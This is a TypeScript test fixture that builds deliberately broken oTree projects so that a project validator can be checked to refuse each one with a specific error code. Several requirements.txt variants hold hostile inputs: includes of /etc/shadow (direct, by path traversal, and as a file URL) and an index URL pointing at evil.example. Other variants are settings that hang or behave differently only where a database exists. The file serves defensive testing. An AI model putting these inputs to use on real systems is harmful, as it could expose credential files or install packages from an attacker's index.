import { cp, mkdir, readdir, rm, rmdir, writeFile } from 'node:fs/promises'
import { dirname, join } from 'node:path'
import type { ErrorCode } from '../../../src/domain/error.ts'

/** How a project differs from `test/apps/rooms`, and what it must be refused with. */
interface BrokenProject {
  readonly code: ErrorCode
  /** Content by path; null removes the file of the sound project. */
  readonly changes: Readonly<Record<string, string | null>>
}

const sound = join(import.meta.dirname, '..', 'rooms')
const pinned = 'otree==6.0.15\n'
const brokenApp = (line: string): string => `${line}\nfrom otree.api import *\n`

/** Settings that are in order while the project is inspected, and do something else where oTree really runs. */
const onlyWithDatabase = (before: string, line: string): string =>
  [
    before,
    'SESSION_CONFIGS = [dict(name="effort", app_sequence=["effort"], num_demo_participants=1)]',
    'SESSION_CONFIG_DEFAULTS = dict(real_world_currency_per_point=1, participation_fee=0)',
    'LANGUAGE_CODE = "en"',
    'REAL_WORLD_CURRENCY_CODE = "EUR"',
    'USE_POINTS = False',
    'ADMIN_USERNAME = "admin"',
    'SECRET_KEY = "x"',
    'from os import environ',
    'ADMIN_PASSWORD = environ.get("OTREE_ADMIN_PASSWORD")',
    'if environ.get("DATABASE_URL"):',
    `    ${line}`,
    '',
  ].join('\n')

export const brokenProjects = {
  'no-settings': { code: 'project.no_settings', changes: { 'settings.py': null } },
  'sub-folder': {
    code: 'project.no_settings',
    changes: { 'settings.py': null, 'experiment/settings.py': 'SESSION_CONFIGS = []\n', 'README.md': 'Look into experiment/.\n' },
  },
  'ignored-settings': { code: 'project.no_settings', changes: { 'settings.py': null, '.gitignore': 'settings.py\n' } },
  'unresolvable-requirement': {
    code: 'project.unresolvable',
    changes: { 'requirements.txt': `${pinned}a-package-that-nobody-would-ever-publish-7f3a==1.0\n` },
  },
  'no-otree': { code: 'project.no_otree', changes: { 'requirements.txt': 'psycopg2>=2.8.4\nsentry-sdk\n' } },
  'old-otree': { code: 'project.unsupported_otree', changes: { 'requirements.txt': 'otree==3.3.11\n' } },
  'shadow-include': { code: 'project.bad_requirements', changes: { 'requirements.txt': `${pinned}-r /etc/shadow\n` } },
  'parent-include': { code: 'project.bad_requirements', changes: { 'requirements.txt': `${pinned}-r ../../../../etc/shadow\n` } },
  'index-url': { code: 'project.bad_requirements', changes: { 'requirements.txt': `--index-url https://evil.example/simple\n${pinned}` } },
  'local-path': { code: 'project.bad_requirements', changes: { 'requirements.txt': `${pinned}./wheels/thing.whl\n` } },
  'editable-path': { code: 'project.bad_requirements', changes: { 'requirements.txt': `${pinned}-e .\n` } },
  'file-url': { code: 'project.bad_requirements', changes: { 'requirements.txt': `${pinned}thing @ file:///etc/shadow\n` } },
  'settings-syntax': { code: 'project.broken', changes: { 'settings.py': 'SESSION_CONFIGS = [\n    dict(name="x",\n' } },
  'import-error': { code: 'project.broken', changes: { 'effort/__init__.py': brokenApp('from math import no_such_function') } },
  'missing-modules': {
    code: 'project.broken',
    changes: {
      'effort/__init__.py': brokenApp('import absent_statistics'),
      'farewell/__init__.py': brokenApp('import absent_pictures.filters'),
    },
  },
  'exit-at-import': { code: 'project.broken', changes: { 'effort/__init__.py': brokenApp('import sys; sys.exit("I do not want to.")') } },
  'no-static': { code: 'project.broken', changes: { '_static/global/effort.css': null } },
  'endless-import': { code: 'project.broken', changes: { 'effort/__init__.py': brokenApp('import time; time.sleep(86_400)') } },
  'endless-settings': { code: 'project.broken', changes: { 'settings.py': 'while True: pass\n' } },
  'endless-boot': {
    code: 'engine.not_ready',
    changes: { 'settings.py': onlyWithDatabase('import time', 'while True: time.sleep(1)') },
  },
  'crash-at-boot': {
    code: 'project.boot_failed',
    changes: { 'settings.py': onlyWithDatabase('', 'raise RuntimeError("This crashes only where there is a database.")') },
  },
} as const satisfies Record<string, BrokenProject>

export type BrokenProjectName = keyof typeof brokenProjects

/** Writes the sound project `rooms` with what is broken in `name` into `directory`, which is made anew. */
export async function writeBrokenProject(name: BrokenProjectName, directory: string): Promise<void> {
  await rm(directory, { recursive: true, force: true })
  await cp(sound, directory, { recursive: true })
  const { changes }: BrokenProject = brokenProjects[name]
  for (const [path, content] of Object.entries(changes)) await change(join(directory, path), content)
}

async function change(file: string, content: string | null): Promise<void> {
  if (content === null) return removeAsGitDoes(file)
  await mkdir(dirname(file), { recursive: true })
  await writeFile(file, content)
}

/** Git keeps no empty directories. */
async function removeAsGitDoes(file: string): Promise<void> {
  await rm(file)
  for (let folder = dirname(file); (await readdir(folder)).length === 0; folder = dirname(folder)) await rmdir(folder)
}
